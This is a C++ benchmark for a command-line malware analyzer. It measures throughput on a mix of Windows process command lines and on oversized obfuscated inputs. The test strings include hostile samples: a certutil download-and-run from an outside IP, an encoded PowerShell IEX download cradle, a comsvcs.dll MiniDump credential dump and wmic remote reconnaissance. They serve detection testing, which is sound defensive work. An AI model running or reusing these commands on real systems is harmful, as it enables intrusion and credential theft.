// Command-line analysis throughput (SPEC §12): typical ~200-character lines per second on one
// thread, and the time of each pathological line. Prints figures; asserts nothing.
#include "cmdline/commandlineanalyzer.h"
#include "cmdlinetestdata.h"

#include <QCoreApplication>
#include <QElapsedTimer>
#include <QFile>

#include <nlohmann/json.hpp>

#include <cstdio>
#include <ctime>

using namespace causa;

namespace {

using test::utf16Base64;

// CPU time of this thread: on a loaded shared machine wall time mostly measures the other
// processes, so both are printed.
double threadCpuSeconds()
{
    timespec ts{};
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
    return double(ts.tv_sec) + double(ts.tv_nsec) / 1e9;
}

// QString::repeated, kept as a name so the hostile inputs read like their descriptions.
QString repeat(const QString &unit, qsizetype times)
{
    return unit.repeated(times);
}

// A mix like a real process-creation stream: mostly ordinary admin/system lines, some
// LOLBin use, a few obfuscated ones. Each about 200 characters.
QStringList typicalLines()
{
    return {
        QStringLiteral(
            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=7"),
        QStringLiteral(
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule && C:\\Windows\\System32\\RuntimeBroker.exe -Embedding && \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile"),
        QStringLiteral(
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Contoso\\Agent\\scripts\\collect-inventory.ps1\" -OutputPath C:\\ProgramData\\Contoso\\inventory.json -Verbose"),
        QStringLiteral(
            "msiexec /i \"\\\\fileserver01\\deploy\\packages\\AcroRdrDC2300620360_en_US.msi\" /qn /norestart TRANSFORMS=\"\\\\fileserver01\\deploy\\acro.mst\" ALLUSERS=1 REBOOT=ReallySuppress"),
        QStringLiteral(
            "certutil.exe -urlcache -split -f http://203.0.113.50/files/update-service-x64.exe C:\\Users\\Public\\Libraries\\update-service.exe && C:\\Users\\Public\\Libraries\\update-service.exe"),
        QStringLiteral(
            "cmd.exe /c \"schtasks /create /tn \\\"Contoso Update\\\" /tr \\\"C:\\Program Files\\Contoso\\update.exe /silent\\\" /sc daily /st 03:00 /ru SYSTEM /f\" > C:\\Logs\\task.log 2>&1"),
        QStringLiteral(
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\dbg.dmp full && del C:\\Windows\\Temp\\dbg.dmp && echo done > C:\\Windows\\Temp\\status.txt"),
        QStringLiteral("powershell -nop -w hidden -enc ") +
            utf16Base64(QStringLiteral(
                "IEX (New-Object Net.WebClient).DownloadString('http://0xB9DC652A:8080/a')")),
        QStringLiteral(
            "wmic /node:10.20.30.40 /user:CORP\\svc_backup process call create \"cmd.exe /c net user /domain > C:\\Windows\\Temp\\u.txt & whoami /all >> C:\\Windows\\Temp\\u.txt\""),
        QStringLiteral(
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle /profile \"Outlook\" /select \"outlook:Inbox\" /c ipm.note /m \"someone@example.com\" /a \"C:\\Users\\jdoe\\Documents\\report.pdf\""),
    };
}

// Set by "--only <text>": time only the pathological lines whose name contains it (profiling).
QByteArray g_only;

void pathological(const CommandLineAnalyzer &analyzer, const char *name, const QString &line)
{
    if (!g_only.isEmpty() && !QByteArray(name).contains(g_only))
        return;
    QElapsedTimer t;
    t.start();
    const double cpu0 = threadCpuSeconds();
    const AnalysisResult r = analyzer.analyze(line);
    const double cpuMs = (threadCpuSeconds() - cpu0) * 1e3;
    const double ms = double(t.nsecsElapsed()) / 1e6;
    std::printf("  %-42s %9.1f ms wall %9.1f ms cpu  (%lld chars, %lld layers, verdict %s)\n", name,
                ms, cpuMs, static_cast<long long>(line.size()),
                static_cast<long long>(r.layers.size()), qPrintable(r.verdict));
}

// "--write-jsonl FILE [N]": the typical mix as N JSON-string lines, the input of
// tests/bench/bench_cli_analyze.sh (which times the whole CLI, JSON output included).
int writeJsonLines(const QString &path, qint64 count)
{
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly | QIODevice::Truncate)) {
        std::fprintf(stderr, "cannot write %s\n", qPrintable(path));
        return 1;
    }
    QList<QByteArray> encoded;
    for (const QString &l : typicalLines())
        encoded << QByteArray::fromStdString(nlohmann::json(l.toStdString()).dump()) + '\n';
    for (qint64 i = 0; i < count; ++i)
        f.write(encoded[qsizetype(i % encoded.size())]);
    std::printf("wrote %lld lines to %s\n", static_cast<long long>(count), qPrintable(path));
    return 0;
}

} // namespace

int main(int argc, char *argv[])
{
    QCoreApplication app(argc, argv);
    if (argc > 2 && QByteArray(argv[1]) == "--write-jsonl")
        return writeJsonLines(QString::fromLocal8Bit(argv[2]),
                              argc > 3 ? QByteArray(argv[3]).toLongLong() : 200000);
    const CommandLineAnalyzer analyzer;
    if (!analyzer.loadError().isEmpty()) {
        std::fprintf(stderr, "knowledge: %s\n", qPrintable(analyzer.loadError()));
        return 1;
    }
    const QStringList lines = typicalLines();
    qsizetype chars = 0;
    for (const QString &l : lines)
        chars += l.size();
    // Warm up, then time.
    for (const QString &l : lines)
        (void)analyzer.analyze(l);
    const int rounds = argc > 1 ? QString::fromLocal8Bit(argv[1]).toInt() : 5000;
    QElapsedTimer t;
    t.start();
    const double cpu0 = threadCpuSeconds();
    qint64 analysed = 0;
    int malicious = 0;
    for (int i = 0; i < rounds; ++i) {
        for (const QString &l : lines) {
            malicious += analyzer.analyze(l).verdict == QLatin1String("malicious");
            ++analysed;
        }
    }
    const double secs = double(t.nsecsElapsed()) / 1e9;
    const double cpuSecs = threadCpuSeconds() - cpu0;
    std::printf(
        "Typical lines (avg %lld chars, mix of %lld): %lld analysed in %.2f s = %.0f lines/s on one "
        "thread; %.2f s CPU = %.0f lines per CPU-second (%d malicious verdicts)\n",
        static_cast<long long>(chars / lines.size()), static_cast<long long>(lines.size()),
        static_cast<long long>(analysed), secs, analysed / secs, cpuSecs, analysed / cpuSecs,
        malicious);
    // The keyword scan alone (the analyser's largest single cost), over the same lines.
    {
        const KeywordMatcher &matcher = analyzer.knowledge()->matcher();
        std::vector<qsizetype> firstPos;
        std::vector<int> found;
        qint64 hits = 0;
        const double scan0 = threadCpuSeconds();
        for (int i = 0; i < rounds; ++i) {
            for (const QString &l : lines) {
                matcher.scan(l, &firstPos, &found);
                hits += qint64(found.size());
            }
        }
        const double scanSecs = threadCpuSeconds() - scan0;
        std::printf("Keyword scan alone: %.1f M chars per CPU-second (%lld keywords found)\n",
                    double(chars) * rounds / scanSecs / 1e6, static_cast<long long>(hits));
    }
    if (argc > 2 && QByteArray(argv[2]) == "--typical-only")
        return 0;
    if (argc > 3 && QByteArray(argv[2]) == "--only")
        g_only = argv[3];

    std::printf("Pathological lines:\n");
    QString b64;
    const char *alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (int i = 0; i < 1024 * 1024; ++i)
        b64 += QLatin1Char(alphabet[(quint64(i) * 7919u + quint64(i) / 13u) % 64u]);
    pathological(analyzer, "1 MB base64-looking token after -enc",
                 QStringLiteral("powershell -enc ") + b64);
    QString b64x5 = repeat(b64, 5);
    pathological(analyzer, "5 MB base64-looking token", QStringLiteral("cmd /c echo ") + b64x5);
    QString nested = QStringLiteral("Write-Output innermost");
    while (nested.size() < 2 * 1024 * 1024)
        nested = QStringLiteral("powershell -enc ") + utf16Base64(nested);
    pathological(analyzer, "-enc nested up to 2 MB", nested);
    pathological(analyzer, "100k-item [char[]] array",
                 QStringLiteral("-join [char[]](") + repeat(QStringLiteral("65,"), 100000) +
                     QStringLiteral("66)"));
    pathological(analyzer, "200k-item [char[]] array",
                 QStringLiteral("-join [char[]](") + repeat(QStringLiteral("65,"), 200000) +
                     QStringLiteral("66)"));
    pathological(analyzer, "100k [char]N+ casts",
                 repeat(QStringLiteral("[char]65+"), 100000) + QStringLiteral("[char]66"));
    pathological(analyzer, "100,000 carets",
                 QStringLiteral("c") + repeat(QStringLiteral("^"), 100000) + QStringLiteral("md"));
    pathological(analyzer, "1M double quotes", repeat(QStringLiteral("\""), 1000000));
    pathological(analyzer, "10 MB of 'A'", repeat(QStringLiteral("A"), 10 * 1024 * 1024));
    pathological(analyzer, "100k backtick-escaped letters",
                 repeat(QStringLiteral("I`E`X "), 100000));
    pathological(analyzer, "50k set/call variables",
                 QStringLiteral("cmd /c \"") +
                     repeat(QStringLiteral("set a=b&&call %a%%a%&&"), 50000) +
                     QStringLiteral("\""));
    // Invoke-Obfuscation launchers: whitespace data that decodes to NUL, and a special-character
    // script whose evaluation runs 100k increments (both must give no layer, quickly).
    pathological(analyzer, "1 MB quoted spaces/tabs (NUL codes)",
                 QStringLiteral("'") + repeat(QStringLiteral(" \t\t"), 350000) +
                     QStringLiteral(" ' | iex"));
    pathological(analyzer, "1 MB quoted spaces/tabs (bad runs)",
                 QStringLiteral("\"") + repeat(QStringLiteral("            \t"), 80000) +
                     QStringLiteral("\""));
    pathological(analyzer, "100k ++${ } increments",
                 QStringLiteral("${ }=+$();${;}=${ };${+}=${ };") +
                     repeat(QStringLiteral("++${ };"), 100000) + QStringLiteral("\"${ }\"|&${;}"));
    pathological(analyzer, "480k ${;} tokens (1.9 MB)",
                 QStringLiteral("${;}=+$();") + repeat(QStringLiteral("${;}"), 480000) +
                     QStringLiteral("\"a\""));
    return 0;
}
